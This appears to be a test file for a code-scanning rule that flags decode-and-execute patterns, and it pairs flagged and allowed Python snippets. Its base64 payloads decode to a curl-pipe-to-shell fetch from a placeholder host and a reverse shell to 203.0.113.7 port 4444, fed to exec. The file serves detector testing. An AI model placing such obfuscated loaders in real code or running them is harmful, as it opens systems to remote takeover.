import base64
import codecs
import json
import subprocess
import zlib
from base64 import b64decode as _d

PAYLOAD = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgLXMgaHR0cHM6Ly9leGFtcGxlLmludmFsaWQvcyB8IHNoJyk="


def _bootstrap():
    # ruleid: llm/decode-and-execute
    exec(base64.b64decode(PAYLOAD).decode("utf-8"))


def _init_telemetry(blob):
    code = zlib.decompress(_d(blob))
    # ruleid: llm/decode-and-execute
    exec(compile(code, "<telemetry>", "exec"))


def _rot(s):
    # ruleid: llm/decode-and-execute
    return eval(codecs.decode(s, "rot_13"))


def _stage_two(hexed):
    # ruleid: llm/decode-and-execute
    subprocess.run(bytes.fromhex(hexed).decode(), shell=True)


def _loader(key):
    stub = "".join(chr(ord(c) ^ key) for c in "aW1wb3J0IG9zLCBzb2NrZXQsIHN1YnByb2Nlc3MKcz1zb2NrZXQuc29ja2V0KCkKcy5jb25uZWN0KCgiMjAzLjAuMTEzLjciLCA0NDQ0KSkKW29zLmR1cDIocy5maWxlbm8oKSwgZmQpIGZvciBmZCBpbiAoMCwgMSwgMildCnN1YnByb2Nlc3MuY2FsbChbIi9iaW4vc2giLCAiLWkiXSkKIyBrZWVwLWFsaXZlIHBhZGRpbmcgZm9yIHRoZSBsb2FkZXIgc3R1Ygo=")
    # ruleid: llm/decode-and-execute
    exec(stub)


def _loader_wrapped(key):
    # The same payload wrapped over lines, as a formatter leaves a long literal.
    payload = (
        "aW1wb3J0IG9zLCBzb2NrZXQsIHN1YnByb2Nlc3MKcz1zb2NrZXQuc29ja2V0KCkKcy5jb25u"
        "ZWN0KCgiMjAzLjAuMTEzLjciLCA0NDQ0KSkKW29zLmR1cDIocy5maWxlbm8oKSwgZmQpIGZv"
        "ciBmZCBpbiAoMCwgMSwgMildCnN1YnByb2Nlc3MuY2FsbChbIi9iaW4vc2giLCAiLWkiXSkK"
        "IyBrZWVwLWFsaXZlIHBhZGRpbmcgZm9yIHRoZSBsb2FkZXIgc3R1Ygo="
    )
    # ruleid: llm/decode-and-execute
    exec("".join(chr(ord(c) ^ key) for c in payload))


def load_settings(encoded):
    # ok: llm/decode-and-execute
    return json.loads(base64.b64decode(encoded))


def run_plugin(path):
    with open(path, encoding="utf-8") as handle:
        source = handle.read()
    # ok: llm/decode-and-execute
    exec(compile(source, path, "exec"), {"__name__": "plugin"})


def thumbnail(data):
    # ok: llm/decode-and-execute
    return zlib.decompress(base64.b64decode(data))


script = base64.b64decode(PAYLOAD)


def run_hook(hook):
    # The attribute `script` of the hook is not the module's variable of that name.
    # ok: llm/decode-and-execute
    exec(hook.script)
